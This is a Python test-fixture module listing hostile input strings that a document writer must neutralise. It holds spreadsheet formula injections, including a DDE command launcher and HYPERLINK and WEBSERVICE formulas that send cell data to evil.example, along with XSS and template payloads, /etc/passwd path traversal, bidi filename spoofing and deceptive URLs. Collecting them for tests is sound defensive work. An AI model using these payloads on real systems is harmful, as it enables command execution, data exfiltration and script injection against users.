"""Strings that attack whoever reads a pack: one corpus for every writer."""

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    '=WEBSERVICE("https://evil.example/")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "{=1+1}",
    "#REF!",
    "#N/A",
    "#DIV/0!",
)
"""A spreadsheet may calculate these, or take them for an error."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "</title></style></svg><svg onload=alert(1)>",
    "<!-- -->]]><![CDATA[",
    "&lt;b&gt;&amp;&#106;",
    "{{ 7 * 7 }}{% for x in [] %}{# #}",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://ok.example/",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
)
"""A browser or a template engine may take these for code."""

CHARACTERS = (
    "bell\x07 escape\x1b[31m null\x00 next line\x85",
    "lone \ud800 surrogate \udfff",
    "no character \ufffe \uffff \ufdd0",
    "turned \u202egnp.exe\u202c \u2066hidden\u2069 \u200b\ufeff",
    "_x0041__x003D_1+1",
    "two\r\nlines\nand\ttab",
    "emoji \U0001f600 combining e\u0301 \u5b57",
    "../../../etc/passwd",
    "C:\\windows\\[x]:*?/History'",
    "long " + "x" * 3000,
)
"""A file cannot hold these, or a reader does not see what they are."""

ALL = FORMULAS + MARKUP + CHARACTERS

ADDRESSES = (
    "javascript:alert(1)",
    "java\nscript:alert(1)",
    "http://plain.example/",
    "https://user:password@evil.example/",
    "https://evil.example\\@good.example/",
    "https:///no-host",
    "https://",
    "//evil.example/",
    "https://evil.example/\u202egnp",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/a b",
    "https://[::1",
    "https://evil.example:99999/",
    "ftp://evil.example/",
    "data:text/html,x",
    " https://evil.example/",
    "",
)
"""None of these may become a link."""
